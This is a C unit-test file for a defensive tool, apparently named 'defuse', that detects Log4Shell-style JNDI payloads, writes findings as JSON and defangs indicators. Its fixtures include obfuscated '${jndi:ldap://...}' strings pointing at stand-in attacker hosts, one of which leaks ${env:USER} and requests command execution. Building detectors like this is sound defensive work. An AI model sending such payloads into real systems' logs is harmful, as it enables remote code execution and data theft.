/*
 * test_json.c -- unit tests of lib/json.c: defuse_finding_to_json() (field
 * set, order, null handling, "$" escaping, bad UTF-8, extra members) and
 * defuse_defang() (each rule of its contract, snprintf-style truncation).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "test_rng.h"

#include "defuse.h"

#include <jansson.h>
#include <stdlib.h>
#include <string.h>

static defuse_finding sample(void) {
    static const char payload[] = "${${lower:j}ndi:ldap://${env:USER}.evil.example:1389/Basic/Command/Base64/aWQ=}";
    defuse_finding f;
    memset(&f, 0, sizeof f);
    f.kind = DEFUSE_KIND_JNDI;
    f.techniques = DEFUSE_TECH_LOWER | DEFUSE_TECH_NESTED | DEFUSE_TECH_EXFIL;
    f.payload = payload;
    f.payload_len = strlen(payload);
    f.decoded = payload;
    f.decoded_len = strlen(payload);
    f.layers[0] = DEFUSE_LAYER_PERCENT;
    f.layers[1] = DEFUSE_LAYER_HTML;
    f.nlayers = 2;
    f.callback = "ldap://${env:USER}.evil.example:1389/Basic/Command/Base64/aWQ=";
    f.scheme = "ldap";
    f.host = "${env:USER}.evil.example";
    f.port = 1389;
    f.path = "Basic/Command/Base64/aWQ=";
    f.exfil[0] = "env:USER";
    f.nexfil = 1;
    f.command = "id";
    return f;
}

static json_t *parse(const char *s) {
    json_error_t err;
    json_t *j = json_loads(s, JSON_ALLOW_NUL, &err);
    if (!j)
        fail_msg("not JSON (%s): %s", err.text, s);
    return j;
}

static void test_fields(void **state) {
    (void)state;
    defuse_finding f = sample();
    char *s = defuse_finding_to_json(&f, NULL);
    assert_non_null(s);
    assert_null(strchr(s, '$'));      /* every $ escaped */
    assert_null(strchr(s, '\n'));     /* one line */
    assert_non_null(strstr(s, "\\u0024{env:USER}"));
    json_t *j = parse(s);
    assert_string_equal(json_string_value(json_object_get(j, "kind")), "jndi");
    assert_string_equal(json_string_value(json_object_get(j, "payload")), f.payload);
    assert_string_equal(json_string_value(json_object_get(j, "callback")), f.callback);
    assert_string_equal(json_string_value(json_object_get(j, "scheme")), "ldap");
    assert_string_equal(json_string_value(json_object_get(j, "host")), f.host);
    assert_int_equal(json_integer_value(json_object_get(j, "port")), 1389);
    assert_string_equal(json_string_value(json_object_get(j, "path")), f.path);
    assert_string_equal(json_string_value(json_object_get(j, "command")), "id");
    json_t *layers = json_object_get(j, "layers");
    assert_int_equal(json_array_size(layers), 2);
    assert_string_equal(json_string_value(json_array_get(layers, 0)), "percent");
    assert_string_equal(json_string_value(json_array_get(layers, 1)), "html");
    json_t *t = json_object_get(j, "techniques");
    assert_int_equal(json_array_size(t), 3);
    assert_string_equal(json_string_value(json_array_get(t, 0)), "lower");
    assert_string_equal(json_string_value(json_array_get(t, 1)), "nested");
    assert_string_equal(json_string_value(json_array_get(t, 2)), "exfiltration");
    json_t *ex = json_object_get(j, "exfil");
    assert_int_equal(json_array_size(ex), 1);
    assert_string_equal(json_string_value(json_array_get(ex, 0)), "env:USER");
    /* the contract's field order */
    static const char *const order[] = {"kind", "payload", "decoded", "layers", "techniques",
                                        "callback", "scheme", "host", "port", "path", "exfil",
                                        "command"};
    const char *prev = s;
    for (size_t i = 0; i < sizeof order / sizeof order[0]; i++) {
        char key[32];
        snprintf(key, sizeof key, "\"%s\":", order[i]);
        const char *at = strstr(s, key);
        assert_non_null(at);
        assert_true(at >= prev);
        prev = at;
    }
    json_decref(j);
    free(s);
}

static void test_nulls_and_extra(void **state) {
    (void)state;
    defuse_finding f;
    memset(&f, 0, sizeof f);
    f.kind = DEFUSE_KIND_LOOKUP;
    f.payload = "${env:HOME}";
    f.payload_len = 11;
    f.decoded = f.payload;
    f.decoded_len = 11;
    f.port = -1;
    char *s = defuse_finding_to_json(&f, "{\"file\":\"a$b.log\",\"line\":7}");
    assert_non_null(s);
    assert_null(strchr(s, '$'));
    /* extra members first, in their order */
    assert_true(strncmp(s, "{\"file\":\"a\\u0024b.log\",\"line\":7,\"kind\":\"lookup\"", 46) == 0);
    json_t *j = parse(s);
    assert_true(json_is_null(json_object_get(j, "callback")));
    assert_true(json_is_null(json_object_get(j, "scheme")));
    assert_true(json_is_null(json_object_get(j, "host")));
    assert_true(json_is_null(json_object_get(j, "port")));
    assert_true(json_is_null(json_object_get(j, "path")));
    assert_true(json_is_null(json_object_get(j, "command")));
    assert_int_equal(json_array_size(json_object_get(j, "exfil")), 0);
    assert_int_equal(json_array_size(json_object_get(j, "layers")), 0);
    assert_string_equal(json_string_value(json_object_get(j, "file")), "a$b.log");
    json_decref(j);
    free(s);
    /* extra that is not an object, or not JSON */
    assert_null(defuse_finding_to_json(&f, "[1,2]"));
    assert_null(defuse_finding_to_json(&f, "{\"file\":"));
    assert_null(defuse_finding_to_json(&f, "\"x\""));
    s = defuse_finding_to_json(&f, "{}");
    assert_non_null(s);
    assert_true(strncmp(s, "{\"kind\":", 8) == 0);
    free(s);
}

static void test_bad_bytes(void **state) {
    (void)state;
    static const char raw[] = "${jndi:ldap://x/\xff\xfe\x00z}";
    defuse_finding f;
    memset(&f, 0, sizeof f);
    f.kind = DEFUSE_KIND_JNDI;
    f.payload = raw;
    f.payload_len = sizeof raw - 1; /* includes the NUL byte */
    f.decoded = raw;
    f.decoded_len = sizeof raw - 1;
    f.port = -1;
    char *s = defuse_finding_to_json(&f, NULL);
    assert_non_null(s);
    json_t *j = parse(s);
    json_t *p = json_object_get(j, "payload");
    /* 2 bad bytes -> 2 x U+FFFD (3 bytes each), NUL kept */
    assert_int_equal(json_string_length(p), sizeof raw - 1 - 2 + 6);
    assert_memory_equal(json_string_value(p) + 16, "\xEF\xBF\xBD\xEF\xBF\xBD\0z}", 9);
    json_decref(j);
    free(s);
}

/* Long fields are cut (issue 12 item 11): a 1 MB payload must not make a
 * 4 MB line.  The start is kept, the whole is identified by its SHA-256
 * (FIPS 180-2 appendix B.3: one million 'a' bytes) and its length. */
static void test_long_fields(void **state) {
    (void)state;
    size_t big = 1000000;
    char *a = malloc(big + 1);
    assert_non_null(a);
    memset(a, 'a', big);
    a[big] = '\0';
    defuse_finding f;
    memset(&f, 0, sizeof f);
    f.kind = DEFUSE_KIND_JNDI;
    f.payload = a, f.payload_len = big;
    f.decoded = a, f.decoded_len = big;
    f.callback = a, f.callback_len = big;
    f.path = a;
    f.exfil[0] = a, f.nexfil = 1;
    f.port = -1;
    char *s = defuse_finding_to_json(&f, NULL);
    assert_non_null(s);
    assert_true(strlen(s) < 64 * 1024);
    json_t *j = parse(s);
    const char *p = json_string_value(json_object_get(j, "payload"));
    assert_non_null(p);
    assert_true(strlen(p) >= 1024 && strlen(p) < big);
    assert_memory_equal(p, a, strlen(p));
    static const char sha_1m_a[] =
        "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0";
    static const char *const cut[] = {"payload", "decoded", "callback", "path"};
    for (size_t i = 0; i < sizeof cut / sizeof cut[0]; i++) {
        char key[64];
        snprintf(key, sizeof key, "%s_sha256", cut[i]);
        const char *h = json_string_value(json_object_get(j, key));
        if (!h)
            fail_msg("no %s in %.200s", key, s);
        assert_string_equal(h, sha_1m_a);
        snprintf(key, sizeof key, "%s_length", cut[i]);
        assert_int_equal(json_integer_value(json_object_get(j, key)), (json_int_t)big);
    }
    assert_true(strlen(json_string_value(json_array_get(json_object_get(j, "exfil"), 0))) < big);
    assert_true(json_is_true(json_object_get(j, "truncated")));
    /* the jansson path (with extra members) bounds the same way */
    char *viajansson = defuse_finding_to_json(&f, "{}");
    assert_non_null(viajansson);
    assert_string_equal(s, viajansson);
    free(viajansson);
    json_decref(j);
    free(s);
    /* a cut never splits a UTF-8 sequence (no U+FFFD appears) */
    for (size_t i = 0; i + 2 <= big; i += 2)
        a[i] = '\xc3', a[i + 1] = '\xa9';
    for (size_t shift = 0; shift < 2; shift++) {
        f.payload = a + shift * 2, f.payload_len = big - shift * 2 - 1;
        s = defuse_finding_to_json(&f, NULL);
        assert_non_null(s);
        assert_null(strstr(s, "\xEF\xBF\xBD"));
        free(s);
    }
    /* the padding cases of the last block (digests from Python's hashlib) */
    static const struct {
        size_t n;
        const char *sha;
    } pads[] = {{4151, "823f20ebdc6777f45b1506cd51f3d0f22c370f7da06657da8238c15476f29e6a"},
                {4152, "4f8834b962ae37bf0d48f0e99f9d60d7de8023caec9348a0468e8745d7cf1168"},
                {4153, "aa3ffc211312f1db8274c62582e3da13bbc771f2b545a2bf032cb7728f2b0936"},
                {4159, "ca56ee24cc5f5ad84e98a9456ff24da0908169ddf44fc340e0552e6d710f02e0"}};
    memset(a, 'a', big);
    for (size_t i = 0; i < sizeof pads / sizeof pads[0]; i++) {
        f.payload = a, f.payload_len = pads[i].n;
        s = defuse_finding_to_json(&f, NULL);
        assert_non_null(s);
        json_t *pj = parse(s);
        assert_string_equal(json_string_value(json_object_get(pj, "payload_sha256")), pads[i].sha);
        json_decref(pj);
        free(s);
    }
    /* short fields: no extra members at all */
    f = sample();
    s = defuse_finding_to_json(&f, NULL);
    assert_null(strstr(s, "truncated"));
    assert_null(strstr(s, "_sha256"));
    free(s);
    free(a);
}

static char *defang(const char *s) {
    size_t need = defuse_defang(s, strlen(s), NULL, 0);
    char *out = malloc(need + 1);
    assert_non_null(out);
    assert_int_equal(defuse_defang(s, strlen(s), out, need + 1), need);
    assert_int_equal(strlen(out), need);
    return out;
}

static void check_defang(const char *in, const char *want) {
    char *got = defang(in);
    if (strcmp(got, want) != 0)
        fail_msg("defang(%s) = %s, want %s", in, got, want);
    free(got);
}

static void test_defang_rules(void **state) {
    (void)state;
    check_defang("${jndi:ldap://evil.com/a}", "$\\{jndi:ldap[:]//evil[.]com/a}");
    check_defang("ldap://127.0.0.1#evil.com:1389/a", "ldap[:]//127[.]0[.]0[.]1#evil[.]com:1389/a");
    check_defang("ldap://${env:USER}.x.com/e", "ldap[:]//$\\{env:USER}[.]x[.]com/e");
    check_defang("rmi://10.0.0.1:1099/x.y", "rmi[:]//10[.]0[.]0[.]1:1099/x.y");
    check_defang("callback to attacker.example.org", "callback to attacker[.]example[.]org");
    check_defang("version 1.2 and 3.14", "version 1.2 and 3.14");
    check_defang("192.168.1.20 sent", "192[.]168[.]1[.]20 sent");
    check_defang("a\tb\nc\x1b[31m\x7f", "a\\x09b\\x0Ac\\x1B[31m\\x7F");
    check_defang("csi \xc2\x9b" "2J", "csi \\xC2\\x9B2J");
    check_defang("bidi \xe2\x80\xae" "x", "bidi \\xE2\\x80\\xAEx");
    check_defang("bad \xff byte", "bad \\xFF byte");
    check_defang("caf\xc3\xa9 ok", "caf\xc3\xa9 ok");
    check_defang("end.", "end.");
    check_defang("see evil.com.", "see evil[.]com.");
    check_defang("${env:USER}.x.example", "$\\{env:USER}[.]x[.]example");
    check_defang("a..b.com", "a[.][.]b[.]com"); /* malformed, still defanged */
    check_defang("$$", "$$");
    check_defang("", "");
    /* Unambiguous: a literal "$\{", "[.]" or "\x41" differs from defang's own. */
    check_defang("lit $\\{ and [.] and [:] and \\x41", "lit $\\\\{ and \\[.] and \\[:] and \\\\x41");
    check_defang("[.] [x]", "\\[.] [x]");
    /* Property names are no hosts. */
    check_defang("${sys:user.name}", "$\\{sys:user.name}");
    check_defang("ldap://${sys:java.version}.x.example/a",
                 "ldap[:]//$\\{sys:java.version}[.]x[.]example/a");
    check_defang("sys:user.name", "sys:user.name");     /* an exfiltration key */
    check_defang("dns:evil.example", "dns:evil[.]example"); /* not a property lookup */
}

/* defuse_refang() reads every defang output back exactly: random texts over
 * the bytes the escapes involve, and the rule cases above. */
static void test_refang_roundtrip(void **state) {
    (void)state;
    static const char alpha[] = "${}\\[].:/axX41evilcom sys\x01\x1b\xc2\x9b\xe2\x80\xae\xff\x00";
    uint64_t x = 0x9E3779B97F4A7C15ull;
    char in[48], *d = malloc(48 * 4 + 1), *r = malloc(48 * 4 + 1);
    assert_non_null(d);
    assert_non_null(r);
    for (int iter = 0; iter < 200000; iter++) {
        x ^= x << 13, x ^= x >> 7, x ^= x << 17;
        size_t n = x % sizeof in;
        for (size_t i = 0; i < n; i++) {
            x ^= x << 13, x ^= x >> 7, x ^= x << 17;
            in[i] = alpha[x % (sizeof alpha - 1)];
        }
        size_t dl = defuse_defang(in, n, d, 48 * 4 + 1);
        assert_true(dl <= 48 * 4);
        size_t rl = defuse_refang(d, dl, r, 48 * 4 + 1);
        if (rl != n || memcmp(r, in, n) != 0)
            fail_msg("round trip of %zu bytes failed: defanged \"%s\"", n, d);
    }
    free(d);
    free(r);
    char out[64];
    const char *dfd = "$\\{jndi:ldap[:]//evil[.]com/a}";
    assert_int_equal(defuse_refang(dfd, strlen(dfd), out, sizeof out), 25);
    assert_string_equal(out, "${jndi:ldap://evil.com/a}");
}

static void test_defang_truncation(void **state) {
    (void)state;
    const char *in = "${jndi:ldap://evil.com/a}";
    const char *full = "$\\{jndi:ldap[:]//evil[.]com/a}";
    char buf[10];
    memset(buf, 'Z', sizeof buf);
    size_t need = defuse_defang(in, strlen(in), buf, sizeof buf);
    assert_int_equal(need, strlen(full));
    assert_int_equal(strlen(buf), sizeof buf - 1);
    assert_memory_equal(buf, full, sizeof buf - 1);
    char one[1] = {'Z'};
    assert_int_equal(defuse_defang(in, strlen(in), one, 1), strlen(full));
    assert_int_equal(one[0], '\0');
    /* outsz 0 writes nothing */
    assert_int_equal(defuse_defang(in, strlen(in), NULL, 0), strlen(full));
    /* embedded NUL is a control byte, length-delimited input */
    char nulbuf[32];
    assert_int_equal(defuse_defang("a\0b", 3, nulbuf, sizeof nulbuf), 6);
    assert_string_equal(nulbuf, "a\\x00b");
}

/* defuse_finding_to_json() without extra writes the JSON directly; with
 * extra it builds it with jansson.  With an empty extra object the two
 * must give the same bytes, on random findings whose strings mix quotes,
 * backslashes, '$', '/', every control byte, DEL, valid multi-byte UTF-8
 * (U+2028 too), invalid bytes and truncated sequences, NULs, and NULL
 * fields. */
static uint64_t rng = 0x2545F4914F6CDD1Dull;
static unsigned rnd(unsigned n) {
    return test_rnd(&rng, n);
}

static size_t rand_text(char *buf, size_t cap) {
    static const char *const atoms[] = {"a",
                                        "Z",
                                        "0",
                                        "$",
                                        "{",
                                        "}",
                                        "\"",
                                        "\\",
                                        "/",
                                        ":",
                                        "\x7f",
                                        "\xc3\xa9",
                                        "\xe2\x82\xac",
                                        "\xf0\x9d\x84\x9e",
                                        "\xe2\x80\xa8",
                                        "\x80",
                                        "\xc0",
                                        "\xff",
                                        "\xe2\x82",
                                        "\xed\xa0\x80",
                                        "${jndi:",
                                        " "};
    size_t n = 0, parts = rnd(12);
    for (size_t i = 0; i < parts; i++) {
        char one[8];
        const char *a;
        size_t al;
        if (rnd(5) == 0) {
            one[0] = (char)rnd(0x20); /* a control byte, NUL included */
            a = one, al = 1;
        } else {
            a = atoms[rnd(sizeof atoms / sizeof atoms[0])];
            al = strlen(a);
        }
        if (n + al > cap)
            break;
        memcpy(buf + n, a, al);
        n += al;
    }
    return n;
}

static void test_direct_matches_jansson(void **state) {
    (void)state;
    static char pool[8][64];
    for (int iter = 0; iter < 20000; iter++) {
        defuse_finding f;
        memset(&f, 0, sizeof f);
        size_t len[8];
        for (int k = 0; k < 8; k++) {
            len[k] = rand_text(pool[k], sizeof pool[k] - 1);
            pool[k][len[k]] = '\0';
        }
        f.kind = (defuse_kind)rnd(5);
        f.techniques = (unsigned)rnd(1u << 16) | (rnd(2) ? 1u << rnd(DEFUSE_TECH_COUNT) : 0);
        if (rnd(4))
            f.payload = pool[0], f.payload_len = len[0];
        if (rnd(4))
            f.decoded = pool[1], f.decoded_len = len[1];
        f.nlayers = rnd(DEFUSE_MAX_REPORTED_LAYERS + 2);
        for (size_t i = 0; i < DEFUSE_MAX_REPORTED_LAYERS; i++)
            f.layers[i] = (defuse_layer)rnd(DEFUSE_LAYER_COUNT);
        if (rnd(4))
            f.callback = pool[2], f.callback_len = rnd(3) ? len[2] : 0;
        f.scheme = rnd(2) ? pool[3] : NULL;
        f.host = rnd(2) ? pool[4] : NULL;
        f.port = rnd(3) ? (int)rnd(65536) : -1;
        f.path = rnd(2) ? pool[5] : NULL;
        f.nexfil = rnd(DEFUSE_MAX_REPORTED_EXFIL + 2);
        for (size_t i = 0; i < DEFUSE_MAX_REPORTED_EXFIL; i++)
            f.exfil[i] = rnd(5) ? pool[6] : NULL;
        f.command = rnd(2) ? pool[7] : NULL;
        char *direct = defuse_finding_to_json(&f, NULL);
        char *viajansson = defuse_finding_to_json(&f, "{}");
        assert_non_null(direct);
        assert_non_null(viajansson);
        if (strcmp(direct, viajansson) != 0)
            fail_msg("iteration %d:\ndirect  %s\njansson %s", iter, direct, viajansson);
        free(direct);
        free(viajansson);
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_fields),
        cmocka_unit_test(test_nulls_and_extra),
        cmocka_unit_test(test_bad_bytes),
        cmocka_unit_test(test_long_fields),
        cmocka_unit_test(test_defang_rules),
        cmocka_unit_test(test_defang_truncation),
        cmocka_unit_test(test_refang_roundtrip),
        cmocka_unit_test(test_direct_matches_jansson),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
